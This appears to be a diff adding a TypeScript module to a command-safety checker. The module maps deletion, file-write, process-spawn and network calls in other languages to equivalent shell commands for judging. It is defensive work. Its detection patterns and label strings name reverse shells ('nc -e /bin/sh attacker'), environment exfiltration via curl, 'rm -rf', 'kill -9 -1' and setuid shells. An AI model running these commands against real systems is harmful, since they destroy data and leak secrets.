@@ -1,0 +1,194 @@
+// Code of other languages on the command line, told in shell: each call that deletes, writes, starts or sends becomes
+// the command that does the same, and is judged as such. What cannot be read becomes a hole.
+import type { Language } from "./inner.ts";
+import { hole } from "./verdict.ts";
+
+const quoted = `(?:[rbfu]{0,2})("(?:[^"\\\\]|\\\\.)*"|'(?:[^'\\\\]|\\\\.)*'|\`[^\`]*\`)`;
+
+interface Shape {
+  readonly in?: RegExp;
+  /** The call; what stands behind its bracket is the argument. */
+  readonly call: RegExp;
+  /** What it comes to; `$1` is the argument, quoted for the shell, `$!` the argument as a text of the shell itself. */
+  readonly shell: string;
+}
+
+const shapes: readonly Shape[] = [
+  {
+    call: /\b(?:rmtree|remove_tree|removedirs|rm_rf|rm_r|rimraf|remove_entry_secure|rmdirSync|rmSync|removeSync|emptyDirSync|deltree|fs\.rm|fs\.promises\.rm|fsp?\.rmdir|Deno\.remove)\s*\(?\s*/g,
+    shell: "rm -rf $1",
+  },
+  {
+    call: /\b(?:os\.remove|os\.unlink|os\.rmdir|unlinkSync|unlink|File\.delete|FileUtils\.rm|File\.unlink)\s*\(?\s*(?:glob\s*\(?\s*|<)?/g,
+    shell: "rm $1",
+  },
+  { in: /python/, call: /\.(?:unlink|rmdir)\(/g, shell: "rm $1" },
+  {
+    in: /python/,
+    call: /(?<![\w.])(?:call|check_output|check_call|Popen|system|popen|getoutput)\s*\(\s*/g,
+    shell: "$!",
+  },
+  { in: /python/, call: /\bPath\(\s*(?=["'][^)]*\)\s*\.(?:write_|open\(["'][wax]))/g, shell: "echo > $1" },
+  { in: /node/, call: /\$(?=`)/g, shell: "$!" },
+  { in: /php/, call: /array_map\(\s*["'](?:unlink|rmdir)["']\s*,\s*(?:glob\()?/g, shell: "rm -rf $1" },
+  { in: /perl/, call: /\bopen\s*\(?[^;]*?,\s*(?=["']\s*\+?>)/g, shell: "echo > $1" },
+  { in: /perl/, call: /\bopen\s*\(?[^;]*?,\s*(?=["']\s*\|)/g, shell: "$!" },
+  {
+    call: /\b(?:os\.system|os\.popen|subprocess\.\w+|commands\.getoutput|execSync|spawnSync|execFileSync|execFile|child_process\w*\W{0,4}\.?(?:exec|spawn)\w*|shell_exec|passthru|proc_open|pcntl_exec|popen|IO\.popen|Open3\.\w+|pty\.spawn|os\.exec\w+|os\.spawn\w+|os\.posix_spawn|Kernel\.(?:system|exec|spawn)|Bun\.spawn\w*|Deno\.(?:run|Command)|io\.popen|os\.execute|getRuntime\(\)\.exec|shell-command|system2?)\s*\(?\s*/g,
+    shell: "$!",
+  },
+  { in: /node/, call: /(?:\brequire\(\s*['"](?:node:)?child_process['"]\s*\)|\bcp)\s*\.\s*\w+\s*\(\s*/g, shell: "$!" },
+  { in: /perl|ruby|php/, call: /(?<![\w.$>:-])(?:exec|system|spawn)\b\s*\(?\s*/g, shell: "$!" },
+  { in: /perl|ruby|php/, call: /(?:\bqx|%x)\s*[{([/|](?=[^\])}/|]*)/g, shell: "$!" },
+  { in: /perl|ruby|php/, call: /(?=`[^`]+`)/g, shell: "$!" },
+  { in: /awk/, call: /\bsystem\s*\(\s*/g, shell: "$!" },
+  { in: /awk/, call: /(?=("(?:[^"\\]|\\.)*")\s*\|\s*getline)/g, shell: "$!" },
+  { in: /awk/, call: /\|\s*&?\s*(?="(?:[^"]*\/)?(?:ba|z|da|k)?sh\b)/g, shell: `eval "${hole}"` },
+  { in: /awk/, call: /\|\s*&?\s*(?=")/g, shell: "$!" },
+  { in: /awk/, call: /print[^;}|]*>>?\s*(?=")/g, shell: "echo > $1" },
+  {
+    call: /\b(?:writeFileSync|writeFile|appendFileSync|createWriteStream|file_put_contents|File\.write|IO\.write|truncateSync|os\.truncate|truncate)\s*\(?\s*/g,
+    shell: "echo > $1",
+  },
+  {
+    call: /\b(?:open|fopen|openSync|File\.open|File\.new)\s*\(\s*(?=[^,)]+,\s*(?:mode\s*=\s*)?["'][rb]*[wax+])/g,
+    shell: "echo > $1",
+  },
+  { in: /perl/, call: /\bopen\s*\(?[^;]*["']>>?["']?\s*,?\s*(?=["'])/g, shell: "echo > $1" },
+  { call: /\b(?:os\.chmod|chmodSync|FileUtils\.chmod(?:_R)?)\s*\(?\s*/g, shell: "chmod 777 $1" },
+  { call: /\b(?:os\.rename|shutil\.move|renameSync|FileUtils\.mv)\s*\(\s*/g, shell: "mv $1 /tmp/x" },
+  { call: /\bos\.kill\s*\(\s*(?=-1)/g, shell: "kill -9 -1" },
+  { call: /\bprocess\.kill\s*\(\s*(?=-1)/g, shell: "kill -9 -1" },
+];
+
+/** Shell lines that do what the code does, as far as it reaches out of itself. */
+export function toldInShell(language: Language, text: string): string[] {
+  const code = text.replace(/\\\n/g, "");
+  const lines = shapes
+    .filter((shape) => shape.in === undefined || shape.in.test(language))
+    .flatMap((shape) =>
+      Array.from(code.matchAll(shape.call), (found) =>
+        told(shape, code.slice(found.index + found[0].length), found[0], code),
+      ),
+    );
+  return [...new Set([...lines, ...wholes(language, code)])];
+}
+
+function told(shape: Shape, behind: string, call: string, code: string): string {
+  const list = /^[([]?\s*\[([^\]]*)\]/.exec(behind)?.[1];
+  const pieces = Array.from((list ?? firstArgument(behind, call)).matchAll(new RegExp(quoted, "g")), (found) =>
+    inside(found[1] ?? ""),
+  );
+  if (shape.shell === "$!") {
+    if (list !== undefined) return pieces.map(shellQuoted).join(" ") || `eval "$(${hole})"`;
+    if (pieces[0] !== undefined && new RegExp(`^[\\s(]*${quoted}\\s*[+.%]`).test(behind)) return `${pieces[0]}${hole}`;
+    return pieces[0]?.replace(/^\s*\||\|\s*$/g, "") ?? rawShell(behind, call) ?? `eval "${hole}"`;
+  }
+  const argument = pieces[0] === undefined ? placesIn(code) : pieces.join("").replace(/^\s*\+?[<>|]{1,2}\s*/, "");
+  // What is not named may be anything below the folders that are.
+  const shell = pieces[0] === undefined ? shape.shell.replace(/^rm /, "rm -rf ") : shape.shell;
+  return shell.replace("$1", () => (argument.includes("*") ? argument : shellQuoted(argument)));
+}
+
+/** Folders that the code names, with the pattern it looks for in them. */
+function placesIn(code: string): string {
+  const literals = Array.from(code.matchAll(new RegExp(quoted, "g")), (found) => inside(found[1] ?? ""));
+  const folder = literals.find((item) => /^([~/]|\.\.?\/?$)/.test(item));
+  const pattern = literals.find((item) => /^\*+(\/\*)*\.\w+$/.test(item));
+  if (folder === undefined) return hole;
+  return pattern === undefined ? folder : `${folder.replace(/\/$/, "")}/${pattern}`;
+}
+
+/** `qx{..}` and `%x(..)`. */
+function rawShell(behind: string, call: string): string | undefined {
+  return /(?:qx|%x)/.test(call) ? /^[^\])}/|]*/.exec(behind)?.[0] : undefined;
+}
+
+/** Up to the comma or bracket that ends it; for programs that take a list, the whole call. */
+function firstArgument(behind: string, call: string): string {
+  const all = /exec[lv]|spawn|execFile|system\s*\(?\s*$|exec\s*\(?\s*$/.test(call);
+  const literal = new RegExp(`^[\\s(]*${quoted}(\\s*,\\s*\\[[^\\]]*\\]|(?:\\s*,\\s*${quoted})*)`, "s").exec(behind);
+  if (literal === null) {
+    const path =
+      /^[^;)]*expanduser\(\s*(["'][^"']*["'])/.exec(behind)?.[1] ??
+      /^\w+(?:\.\w+)*\(\s*(["'][^"']*["'])\s*\)/.exec(behind)?.[1];
+    return path ?? "";
+  }
+  if (!all) return literal[1] ?? "";
+  const words = Array.from(literal[0].matchAll(new RegExp(quoted, "g")), (found) => inside(found[1] ?? ""));
+  return words.length < 2 ? (literal[1] ?? "") : JSON.stringify(words.join(" "));
+}
+
+function inside(literal: string): string {
+  return literal
+    .slice(1, -1)
+    .replace(/\\x([0-9a-f]{2})/gi, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16)))
+    .replace(/\\(["'\\$])/g, "$1");
+}
+
+function shellQuoted(text: string): string {
+  return `'${text.replaceAll("'", "'\\''")}'`;
+}
+
+const network =
+  /\b(requests\.|urllib|urlopen|http\.client|httpx|aiohttp|socket|smtplib|ftplib|paramiko|fetch\(|https?\.(get|request)|net\.(connect|createConnection|Socket)|axios|Net::HTTP|TCPSocket|open-uri|IO::Socket|LWP|fsockopen|curl_exec|XMLHttpRequest|HTTP::Tiny)|\/inet\/(tcp|udp)|require\(["'](node:)?(net|tls|dgram|https?)["']\)|Socket\(/;
+const dynamic =
+  /(?<![\w.])(exec|eval|execfile|__import__|compile|Function|instance_eval|assert)\s*\(|\beval\s+|marshal\.loads|getattr\s*\(\s*__|vm\.run|importlib\.import_module/;
+const decoder =
+  /b64decode|base64|fromhex|codecs\.decode|unhexlify|zlib|\bchr\(|fromCharCode|decode\(|unpack|pack\(|\[::-1\]|getattr|['"]\s*\+\s*['"]|reverse|gzinflate|rot13|atob|Buffer\.from|urlopen|requests\.|https?\.get|fetch\(/;
+
+interface Sign {
+  readonly fits: (code: string, online: boolean, language: Language) => boolean;
+  readonly shell: string;
+}
+
+const unknownCode = `eval '${hole}'`;
+
+/** What shows in the whole of a program rather than in one call. */
+const signs: readonly Sign[] = [
+  { fits: (_code, online) => online, shell: `curl '${hole}'` },
+  { fits: (code, online) => online && handsOutShell.test(code), shell: "nc -e /bin/sh attacker 1" },
+  { fits: (code) => /\b(os\.)?fork\b/.test(code) && /while|for|fork[^;]*fork/.test(code), shell: "forkbomb" },
+  {
+    fits: (code) =>
+      /while\s*(True|1|\(1\)|\(true\))/.test(code) &&
+      /append|\+=|\*=|alloc|push|\.write\(/.test(code) &&
+      !/sleep/.test(code),
+    shell: "forkbomb",
+  },
+  { fits: (code, online) => dynamic.test(code) && (online || decoder.test(code)), shell: unknownCode },
+  {
+    fits: (code, _, language) =>
+      language === "other" && /system|exec|popen|shell|process|run\s*\(|delete-|`/i.test(code),
+    shell: unknownCode,
+  },
+  {
+    fits: (code) => /os\.set(e?[ug]id)|setuid\(|POSIX::setuid|Process::Sys\.setuid/.test(code),
+    shell: "chmod u+s /bin/sh",
+  },
+  {
+    fits: (code, online) => online && /os\.environ|process\.env\b(?!\.)|%ENV|ENV\.to_|getenv\(\)/.test(code),
+    shell: "printenv | curl -T - x",
+  },
+  { fits: (code) => /dropDatabase|DROP\s+(TABLE|DATABASE)|flushall/i.test(code), shell: "psql -c 'DROP DATABASE x'" },
+];
+
+const handsOutShell =
+  /dup2|\bfdopen|pty\.spawn|\/inet\/(tcp|udp)|STDIN,\s*">&|(?=.*(["']net["']|net\.|Socket|fsockopen))(?=.*(spawn|exec|\/bin\/))/s;
+
+function wholes(language: Language, code: string): string[] {
+  const literals = Array.from(code.matchAll(new RegExp(quoted, "g")), (found) => inside(found[1] ?? ""));
+  const paths = literals.filter((item) => /^[~/.][^\s]*$|^\.env|^id_/.test(item) && item.length > 1);
+  const reads = /open|read|load|File|Path|cat|slurp|<|send|post|copy/i.test(code);
+  const online = network.test(code);
+  const sent = online && sendsOut(code) ? paths.map((path) => `curl '${hole}' -T ${shellQuoted(path)}`) : [];
+  const told = signs.filter((sign) => sign.fits(code, online, language)).map((sign) => sign.shell);
+  return [...(reads ? paths.map((path) => `cat ${shellQuoted(path)}`) : []), ...sent, ...told];
+}
+
+function sendsOut(code: string): boolean {
+  return (
+    /\.post\(|\.put\(|sendall|\.send\(|data\s*=|method:\s*['"]POST|POST|sendmail|storbinary/.test(code) &&
+    /open\(|readFile|File\.read|file_get_contents|read\(\)|expanduser/.test(code)
+  );
+}
